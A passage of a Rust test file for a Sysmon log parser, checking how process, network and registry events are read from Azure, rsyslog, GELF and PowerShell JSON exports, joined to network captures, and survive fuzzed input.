        assert_eq!(e13.details.as_deref(), Some("DWORD (0x00000004)"));
        assert_eq!(e13.ts.to_string(), "2017-12-26T13:11:44.565000Z");
    }
}

/// The look-alike (SecurityCenter's Event ID 1, in the same wrapper) and
/// another program's record are counted, not taken.
fn check_lookalike_and_other(log: &SysmonLog) {
    let s = &log.stats;
    assert_eq!(
        (s.other_provider, s.other_provider_same_id),
        (1, 1),
        "{s:?}"
    );
    assert_eq!(s.other_lines, 1, "{s:?}");
}

#[test]
fn azure_syslog_table_as_json_lines() {
    let path = fixture("azure-syslog.jsonl");
    let log = read_path(&path);
    assert_eq!(log.format, SysmonFormat::JsonLines);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 2, 1), "{s:?}");
    check_lookalike_and_other(&log);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains(r"\u003cEvent"), "escaped as Azure writes it");
    let (line, offset, msg) = the_bad_event(&log);
    assert_eq!((line, offset), (5, line_start(&text, 5)));
    assert!(msg.starts_with("line 5: not JSON"), "{msg}");
    // The rest after the broken line is read: lines 6 and 7.
    let lines: Vec<u64> = log.events.iter().map(|e| e.record).collect();
    assert_eq!(lines, [1, 2, 6, 7]);
    assert_eq!(log.events[2].offset, line_start(&text, 6));
    check_known_events(&log);
    same_as_source(
        &log,
        &[
            (EVTX_SYSMON, 2053),
            (EVTX_SYSMON, 2061),
            (EVTX_SYSMON, 2062),
            (EVTX_SYSMON, 1769),
        ],
    );
}

#[test]
fn azure_portal_export_array() {
    let path = fixture("azure-syslog-export.json");
    let log = read_path(&path);
    assert_eq!(log.format, SysmonFormat::JsonDocument);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 1, 1), "{s:?}");
    check_lookalike_and_other(&log);
    // Element 3 lacks a comma between two members: a warning at its own
    // offset, and elements 4 to 6 are still read.
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains(r"\u003CEvent"), "System.Text.Json's escapes");
    let (line, offset, msg) = the_bad_event(&log);
    assert_eq!(
        (line, offset),
        element_at(&text, "2017-12-18 14:51:29.968", "\n{")
    );
    assert!(
        msg.starts_with(&format!("line {line}: element 3: not JSON")),
        "{msg}"
    );
    let e1 = &log.events[1];
    assert_eq!(
        (e1.record, e1.offset),
        element_at(&text, "2018-03-06 08:14:03.888", "\n{")
    );
    check_known_events(&log);
    same_as_source(
        &log,
        &[
            (EVTX_SYSMON, 2061),
            (EVTX_SYSMON, 2053),
            (EVTX_SYSMON, 1769),
        ],
    );
}

#[test]
fn azure_query_api_tables() {
    let path = fixture("azure-query-api.json");
    let log = read_path(&path);
    assert_eq!(log.format, SysmonFormat::JsonDocument);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 1, 1), "{s:?}");
    check_lookalike_and_other(&log);
    // Row 4 has fewer values than there are columns.
    let text = std::fs::read_to_string(&path).unwrap();
    let (line, offset, msg) = the_bad_event(&log);
    let row = r#"["00000000-0000-0000-0000-000000000000""#;
    assert_eq!(
        (line, offset),
        element_at(&text, "2017-12-18 14:51:29.968", row)
    );
    assert!(
        msg.ends_with("table 1 row 4: 12 values for 15 columns"),
        "{msg}"
    );
    assert!(log.events[2].offset > offset, "row 6 read after row 4");
    check_known_events(&log);
    same_as_source(
        &log,
        &[
            (EVTX_SYSMON, 2053),
            (EVTX_SYSMON, 2061),
            (EVTX_SYSMON, 1769),
        ],
    );
}

#[test]
fn rsyslog_and_syslog_ng_json_templates() {
    let path = fixture("rsyslog.jsonl");
    let log = read_path(&path);
    assert_eq!(log.format, SysmonFormat::JsonLines);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 2, 1), "{s:?}");
    check_lookalike_and_other(&log);
    let text = std::fs::read_to_string(&path).unwrap();
    let (line, offset, _) = the_bad_event(&log);
    assert_eq!((line, offset), (5, line_start(&text, 5)));
    // msg, rawmsg (after the syslog header), @message, message.
    let lines: Vec<u64> = log.events.iter().map(|e| e.record).collect();
    assert_eq!(lines, [1, 2, 6, 7]);
    check_known_events(&log);
    same_as_source(
        &log,
        &[
            (EVTX_SYSMON, 2053),
            (EVTX_SYSMON, 2061),
            (EVTX_SYSMON, 2062),
            (EVTX_SYSMON, 1769),
        ],
    );
}

#[test]
fn graylog_gelf() {
    let path = fixture("gelf.jsonl");
    let log = read_path(&path);
    assert_eq!(log.format, SysmonFormat::JsonLines);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 2, 0), "{s:?}");
    check_lookalike_and_other(&log);
    let text = std::fs::read_to_string(&path).unwrap();
    let (line, offset, msg) = the_bad_event(&log);
    assert_eq!((line, offset), (4, line_start(&text, 4)));
    assert!(msg.contains("not JSON"), "{msg}");
    // full_message before the cut short_message; short_message alone;
    // Graylog's stored `message`.
    let lines: Vec<u64> = log.events.iter().map(|e| e.record).collect();
    assert_eq!(lines, [1, 2, 6]);
    check_known_events(&log);
    same_as_source(
        &log,
        &[
            (EVTX_SYSMON, 2053),
            (EVTX_SYSMON, 2061),
            (EVTX_SYSMON, 2062),
        ],
    );
}

/// The text of a UTF-16LE file with a byte-order mark.
fn utf16le_text(bytes: &[u8]) -> String {
    assert_eq!(&bytes[..2], [0xff, 0xfe]);
    let units: Vec<u16> = bytes[2..]
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    String::from_utf16(&units).unwrap()
}

#[test]
fn windows_powershell_5_convertto_json() {
    let path = fixture("powershell5.json");
    let log = read_path(&path);
    assert_eq!(log.format, SysmonFormat::JsonDocument);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 2, 1), "{s:?}");
    // Element 4 is SecurityCenter's Event ID 1; element 8 an object of no
    // known shape.
    check_lookalike_and_other(&log);
    // Element 5 has a bad escape; element 7 has no Message and its
    // Properties in the wrong order (UtcTime and ProcessGuid swapped): not
    // read under the wrong names.
    let text = utf16le_text(&std::fs::read(&path).unwrap());
    let bad: Vec<_> = log
        .warnings
        .kept
        .iter()
        .filter(|w| w.reason == "bad_event")
        .collect();
    assert_eq!(bad.len(), 2, "{bad:?}");
    let (line, offset) = element_at(&text, r"Process Create:\q", "\r\n{");
    assert_eq!((bad[0].frame, bad[0].offset), (Some(line), offset));
    assert!(
        bad[0].message.contains("element 5: not JSON"),
        "{}",
        bad[0].message
    );
    assert!(
        bad[1].message.contains("element 7: Event ID 3: no Message")
            && bad[1]
                .message
                .contains("18 Properties fit no Sysmon layout"),
        "{}",
        bad[1].message
    );
    // Read from Message (elements 1 and 2) and from Properties alone:
    // element 3, an Event ID 1 of 22 values (no ParentUser), and element 6,
    // an older Event ID 3 of 17 (no RuleName).
    let e1 = of_id(&log, 1)[0];
    assert_eq!(image_name(e1), "wsmprovhost.exe");
    assert_eq!(e1.host.as_deref(), Some("WORKSTATION6.theshire.local"));
    assert_eq!(
        e1.process_guid.as_deref(),
        Some("{49a15388-2826-5f2c-4505-000000000400}")
    );
    assert_eq!(
        e1.parent_image.as_deref(),
        Some(r"C:\Windows\System32\svchost.exe")
    );
    let http = &log.events[3];
    assert_eq!((http.dst, http.dport), (ip("93.184.220.29"), Some(80)));
    assert_eq!(
        http.initiated,
        Some(true),
        "\"True\" as PowerShell 5 writes it"
    );
    let others: Vec<SysmonEvent> = log
        .events
        .iter()
        .filter(|e| e.event_id != 1)
        .cloned()
        .collect();
    check_known_events(&SysmonLog {
        events: others,
        ..log.clone()
    });
    same_as_source(
        &log,
        &[
            (EVTX_SYSMON, 2061),
            (EVTX_SYSMON, 1769),
            (COVENANT, 657),
            (EVTX_SYSMON, 2062),
        ],
    );
    // The same text as UTF-8 reads the same.
    let utf8 = sysmon::read("ps5-utf8.json", text.as_bytes()).unwrap();
    assert_eq!(utf8.stats, log.stats);
    assert_eq!(utf8.events, log.events);
}

#[test]
fn powershell_7_convertto_json() {
    let log = read_path(&fixture("powershell7.json"));
    assert_eq!(log.format, SysmonFormat::JsonDocument);
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 1, 1), "{s:?}");
    assert_eq!(s.bad_records, 0, "{:?}", log.warnings.kept);
    // The Event ID 3 with Windows' own rendered Message (kept by NXLog).
    let grunt = of_id(&log, 3)[0];
    assert_eq!(image_name(grunt), "grunthttp.exe");
    assert_eq!(
        (grunt.src, grunt.dst, grunt.dport),
        (ip("172.18.39.5"), ip("172.18.39.6"), Some(5985))
    );
    assert_eq!(grunt.user.as_deref(), Some(r"THESHIRE\pgustavo"));
    assert_eq!(
        grunt.process_guid.as_deref(),
        Some("{297bc33e-7d2a-5f2b-6003-000000000400}")
    );
    assert_eq!(grunt.host.as_deref(), Some("WORKSTATION5.theshire.local"));
    // The Event ID 13 has no Message: its typed Properties (numbers,
    // booleans, GUIDs without braces) by the 8-value layout.
    let e13 = of_id(&log, 13)[0];
    assert_eq!(
        e13.target_object.as_deref(),
        Some(r"HKLM\System\CurrentControlSet\Services\NdisCap\Start")
    );
    assert_eq!(
        e13.image.as_deref(),
        Some(r"C:\windows\system32\services.exe")
    );
    same_as_source(
        &log,
        &[(COVENANT, 1258), (EVTX_SYSMON, 2053), (COVENANT, 4207)],
    );
    // One event: one object, not an array of one.
    let one = read_path(&fixture("powershell7-single.json"));
    assert_eq!(one.format, SysmonFormat::JsonDocument);
    assert_eq!(one.events.len(), 1, "{:?}", one.stats);
    assert_eq!(one.events[0].record, 1);
    check_known_events(&one);
    same_as_source(&one, &[(EVTX_SYSMON, 2061)]);
}

#[test]
fn a_cut_document_reads_up_to_the_cut() {
    let text = std::fs::read_to_string(fixture("azure-syslog-export.json")).unwrap();
    // Cut inside the last element (the Event ID 13).
    let cut = text.find("2017-12-26 13:11:44.565").unwrap();
    let log = sysmon::read("cut.json", &text.as_bytes()[..cut]).unwrap();
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 1, 0), "{s:?}");
    let w = warned(&log, "bad_event");
    assert_eq!(w.len(), 2, "{w:?}");
    assert!(
        w[1].1
            .contains("element 6: the input ends inside this record"),
        "{}",
        w[1].1
    );
    // A query API response is one object: cut inside its last row, the
    // rows before the cut are still read.
    let text = std::fs::read_to_string(fixture("azure-query-api.json")).unwrap();
    let cut = text.find("2017-12-26 13:11:44.565").unwrap();
    let log = sysmon::read("cut-api.json", &text.as_bytes()[..cut]).unwrap();
    let s = &log.stats;
    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 1, 0), "{s:?}");
    let w = warned(&log, "bad_event");
    assert_eq!(w.len(), 2, "{w:?}");
    assert!(
        w[1].1
            .ends_with("table 1 row 6: the input ends inside this row"),
        "{}",
        w[1].1
    );
}

// ---------------------------------------------------------------- held-out join

/// Sysmon's EventData names of the kept IDs, in its order (the newest
/// schema; an event has those of its version, in this order).
const EVENT_DATA: [(u64, &[&str]); 3] = [
    (
        1,
        &[
            "RuleName",
            "UtcTime",
            "ProcessGuid",
            "ProcessId",
            "Image",
            "FileVersion",
            "Description",
            "Product",
            "Company",
            "OriginalFileName",
            "CommandLine",
            "CurrentDirectory",
            "User",
            "LogonGuid",
            "LogonId",
            "TerminalSessionId",
            "IntegrityLevel",
            "Hashes",
            "ParentProcessGuid",
            "ParentProcessId",
            "ParentImage",
            "ParentCommandLine",
            "ParentUser",
        ],
    ),
    (
        3,
        &[
            "RuleName",
            "UtcTime",
            "ProcessGuid",
            "ProcessId",
            "Image",
            "User",
            "Protocol",
            "Initiated",
            "SourceIsIpv6",
            "SourceIp",
            "SourceHostname",
            "SourcePort",
            "SourcePortName",
            "DestinationIsIpv6",
            "DestinationIp",
            "DestinationHostname",
            "DestinationPort",
            "DestinationPortName",
        ],
    ),
    (
        13,
        &[
            "RuleName",
            "EventType",
            "UtcTime",
            "ProcessGuid",
            "ProcessId",
            "Image",
            "TargetObject",
            "Details",
            "User",
        ],
    ),
];

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// An NXLog record of an OTRF host log with Event ID 1, 3 or 13, as the
/// same event's XML (for the Azure `Syslog` table) and as PowerShell's
/// object. The covenant log kept Windows' rendered `Message` and every
/// EventData field: the object has that `Message` and `Properties` in
/// EventData order. The empire log has no `Message` and lost `ProcessId`
/// (and Event ID 13's `EventType`) to the shipper's own keys, so its
/// `Properties` cannot be rebuilt in order: its objects have a `Message`
/// rendered as Windows renders Sysmon's (the summary line, then `Name:
/// value` lines) from the fields there are, and no `Properties`.
fn reshape(o: &serde_json::Map<String, serde_json::Value>) -> Option<(String, serde_json::Value)> {
    use serde_json::{json, Value};
    let id = o.get("EventID")?.as_u64()?;
    let names = EVENT_DATA.iter().find(|(i, _)| *i == id)?.1;
    let text = |v: &Value| match v {
        Value::String(s) => s.clone(),
        v => v.to_string(),
    };
    let get = |k: &str| o.get(k).map(text);
    let data: Vec<(&str, String)> = names.iter().filter_map(|n| Some((*n, get(n)?))).collect();
    let (provider, host, time) = (get("SourceName")?, get("Hostname")?, get("@timestamp")?);
    let guid = get("ProviderGuid").unwrap_or_default();
    let channel = get("Channel").unwrap_or_default();
    let fields: String = data
        .iter()
        .map(|(n, v)| format!(r#"<Data Name="{n}">{}</Data>"#, xml_escape(v)))
        .collect();
    let xml = format!(
        concat!(
            r#"<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>"#,
            r#"<Provider Name="{}" Guid="{}"/><EventID>{}</EventID>"#,
            r#"<TimeCreated SystemTime="{}"/><Channel>{}</Channel><Computer>{}</Computer>"#,
            r#"</System><EventData>{}</EventData></Event>"#
        ),
        xml_escape(&provider),
        guid,
        id,
        time,
        xml_escape(&channel),
        xml_escape(&host),
        fields
    );
    let (message, properties) = match o.get("Message") {
        Some(m) => (
            m.clone(),
            data.iter().map(|(_, v)| json!({ "Value": v })).collect(),
        ),
        None => {
            let summary = match id {
                1 => "Process Create:",
                3 => "Network connection detected:",
                _ => "Registry value set:",
            };
            let lines = data.iter().map(|(n, v)| format!("{n}: {v}"));
            let text: Vec<String> = std::iter::once(summary.to_string()).chain(lines).collect();
            (Value::from(text.join("\r\n")), Vec::new())
        }
    };
    let ps = json!({
        "Message": message,
        "Id": id,
        "ProviderName": provider,
        "ProviderId": guid.trim_matches(['{', '}']).to_ascii_lowercase(),
        "LogName": channel,
        "MachineName": host,
        "TimeCreated": time,
        "Properties": properties,
    });
    Some((xml, ps))
}

/// `conns -f jsonl --include-private` over `inputs`: the attempts (those
/// from the Sysmon log with its name and line cleared, as they differ
/// between shapes, sorted) and the Sysmon counts of the log.
fn conns(inputs: &[PathBuf]) -> (Vec<serde_json::Value>, serde_json::Value) {
    let mut args = vec!["conns", "-f", "jsonl", "--include-private"];
    let names: Vec<String> = inputs.iter().map(|p| p.display().to_string()).collect();
    args.extend(names.iter().map(String::as_str));
    let (recs, out) = common::jsonl(&args);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut attempts: Vec<serde_json::Value> = common::of_type(&recs, "attempt")
        .into_iter()
        .cloned()
        .map(|mut a| {
            if !a["input"].as_str().unwrap().ends_with(".cap") {
                a["input"] = "log".into();
                a["frame"] = serde_json::Value::Null;
            }
            a
        })
        .collect();
    attempts.sort_by_key(|a| a.to_string());
    let summary = common::of_type(&recs, "summary")[0];
    let log = summary["per_input"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| !i["sysmon"].is_null())
        .expect("the Sysmon log's counts");
    (attempts, log["sysmon"].clone())
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn otrf_pairs_join_the_same_in_the_forwarders_shapes() {
    // The OTRF host logs (NXLog) rewritten as an Azure portal export (event
    // XML in `SyslogMessage`, `<` escaped) and as Windows PowerShell's
    // `ConvertTo-Json` (UTF-16): joined to the held-out capture, each gives
    // the attempts the original log gives, with the same process on each,
    // and the initiators the pair's EXPECTED-JOIN table names.
    let Some(data) = common::shared_data() else {
        return;
    };
    for pair in ["covenant_psremoting_command", "empire_psremoting_stager"] {
        let dir = data.join("sysmon/otrf-atomic-pairs").join(pair);
        let tmp = tempfile::tempdir().unwrap();
        let caps = common::unzip(&dir.join(format!("network_{pair}.zip")), tmp.path());
        let (_tmp_host, nxlog) = otrf_host_log(&data, pair);
        let mut azure = Vec::new();
        let mut ps = Vec::new();
        for line in std::fs::read_to_string(&nxlog).unwrap().lines() {
            let v: serde_json::Value = serde_json::from_str(line).unwrap();
            if let Some((xml, obj)) = reshape(v.as_object().unwrap()) {
                azure.push(serde_json::json!({
                    "TimeGenerated": v["@timestamp"],
                    "Computer": "collector01",
                    "HostName": v["Hostname"],
                    "Facility": "user",
                    "SeverityLevel": "info",
                    "ProcessName": "sysmon",
                    "SyslogMessage": xml,
                    "Type": "Syslog",
                }));
                ps.push(obj);
            }
        }
        let azure_path = tmp.path().join("azure-export.json");
        let azure_text = serde_json::to_string_pretty(&azure)
            .unwrap()
            .replace('<', r"\u003c")
            .replace('>', r"\u003e");
        std::fs::write(&azure_path, azure_text).unwrap();
        let ps_path = tmp.path().join("get-winevent.json");
        let ps_text = serde_json::to_string_pretty(&ps).unwrap();
        let mut utf16 = vec![0xff, 0xfe];
        utf16.extend(ps_text.encode_utf16().flat_map(u16::to_le_bytes));
        std::fs::write(&ps_path, utf16).unwrap();

        let with = |log: &Path| {
            let mut inputs = caps.clone();
            inputs.push(log.to_path_buf());
            conns(&inputs)
        };
        let (want, want_counts) = with(&nxlog);
        assert!(want.iter().any(|a| a["join_rule"] == "tuple"), "{pair}");
        let tsv = std::fs::read_to_string(dir.join("EXPECTED-JOIN.derived.tsv")).unwrap();
        for (shape, path) in [("azure", &azure_path), ("powershell", &ps_path)] {
            let (got, counts) = with(path);
            for k in ["eid1", "eid3", "eid13"] {
                assert_eq!(counts[k], want_counts[k], "{pair} {shape}: {counts}");
            }
            assert_eq!(counts["bad_records"], 0, "{pair} {shape}: {counts}");
            assert_eq!(got.len(), want.len(), "{pair} {shape}");
            for (g, w) in got.iter().zip(&want) {
                assert_eq!(g, w, "{pair} {shape}");
            }
            // The initiators of the held-out table, on the capture's
            // attempts.
            let mut rows = tsv.lines().filter(|l| !l.starts_with('#'));
            let header: Vec<&str> = rows.next().unwrap().split('\t').collect();
            let col = |name: &str| header.iter().position(|h| *h == name).unwrap();
            let mut checked = 0;
            for row in rows {
                let f: Vec<&str> = row.split('\t').collect();
                if f[col("Initiated")] != "true" {
                    continue;
                }
                let a = got
                    .iter()
                    .find(|a| {
                        a["input"].as_str().unwrap().ends_with(".cap")
                            && a["src"] == f[col("src_ip")]
                            && a["sport"].as_u64() == f[col("src_port")].parse().ok()
                            && a["dst"] == f[col("dst_ip")]
                            && a["dport"].as_u64() == f[col("dst_port")].parse().ok()
                    })
                    .unwrap_or_else(|| panic!("{pair} {shape}: no attempt for {row}"));
                assert_eq!(a["image"], f[col("Image")], "{pair} {shape}");
                assert_eq!(a["user"], f[col("User")], "{pair} {shape}");
                assert_eq!(a["host"], f[col("host")], "{pair} {shape}");
                assert_eq!(
                    a["process_guid"].as_str().unwrap().to_lowercase(),
                    f[col("ProcessGuid")].to_lowercase(),
                    "{pair} {shape}"
                );
                checked += 1;
            }
            assert!(checked >= 2, "{pair}: {checked} initiator rows");
        }
    }
}

// ---------------------------------------------------------------- robustness

/// A small deterministic generator, so failures reproduce.
struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

/// Reads `rounds` mutants of `orig` (cut short, bits flipped, a run of
/// bytes overwritten), the changes falling in `orig[..region]`.
fn mutate_never_panics(name: &str, orig: &[u8], region: usize, rounds: usize, seed: u64) {
    let region = region.min(orig.len());
    let mut rng = XorShift(seed);
    let mut buf = orig.to_vec();
    for round in 0..rounds {
        buf.clear();
        buf.extend_from_slice(orig);
        match round % 3 {
            0 => buf.truncate(rng.next() as usize % region),
            1 => {
                for _ in 0..1 + rng.next() % 16 {
                    let i = rng.next() as usize % region;
                    buf[i] ^= 1 << (rng.next() % 8);
                }
            }
            _ => {
                let i = rng.next() as usize % region;
                let n = (rng.next() as usize % 64).min(buf.len() - i);
                let r = rng.next() as u8;
                buf[i..i + n].fill(r);
            }
        }
        if let Ok(log) = sysmon::read(name, &buf) {
            assert!(log.stats.kept() as usize == log.events.len());
        }
    }
}

#[test]
fn mutated_text_fixtures_never_panic() {
    for f in [
        "winlogbeat.jsonl",
        "nxlog.jsonl",
        "events-per-line.xml",
        "exported.xml",
        "linux-syslog.log",
        "journald.jsonl",
        "azure-syslog.jsonl",
        "azure-syslog-export.json",
        "azure-query-api.json",
        "rsyslog.jsonl",
        "gelf.jsonl",
        "powershell5.json",
        "powershell7.json",
    ] {
        let orig = std::fs::read(fixture(f)).unwrap();
        mutate_never_panics(f, &orig, orig.len(), 600, 0x9e37_79b9_7f4a_7c15);
    }
}

#[test]
#[cfg_attr(not(portent_shared_data), ignore = "needs the shared real data")]
fn mutated_evtx_never_panics() {
    let Some(data) = common::shared_data() else {
        return;
    };
    let p = data
        .join("sysmon/evtx-attack-samples/Lateral_Movement_LM_sysmon_psexec_smb_meterpreter.evtx");
    let orig = std::fs::read(p).unwrap();
    // The file header and the one chunk in use (the rest is zeros).
    let used = 4096 + 65536;
    mutate_never_panics("psexec.evtx", &orig, used, 300, 0xdead_beef_cafe_f00d);
    // Only the records' bytes (past the chunk header and its string and
    // template tables, 512 bytes), where flips reach the BinXML parser.
    let mut rng = XorShift(7);
    let mut buf = orig.clone();
    for _ in 0..300 {
        buf.copy_from_slice(&orig);
        for _ in 0..4 {
            let i = 4096 + 512 + rng.next() as usize % (65536 - 512);
            buf[i] ^= 1 << (rng.next() % 8);
        }
        let _ = sysmon::read("flipped.evtx", &buf);
    }
    // Truncated at every chunk boundary and in the middle of one.
    for cut in [0, 8, 4096, 4096 + 512, 4096 + 65536 - 1, orig.len() - 1] {
        let _ = sysmon::read("cut.evtx", &orig[..cut.min(orig.len())]);
    }
}

#[test]
fn unclosed_events_are_each_a_bad_record() {
    // Each start tag without its end: one bad record each, found in one
    // pass (the end tag is looked for only up to the next start).
    let mut text = String::from("<?xml version=\"1.0\"?>\n<Events>\n");
    for _ in 0..50_000 {
        text.push_str("<Event>\n");
    }
    let log = sysmon::read("unclosed.xml", text.as_bytes()).unwrap();
    assert_eq!(log.stats.bad_records, 50_000);
    assert!(log.events.is_empty());
}
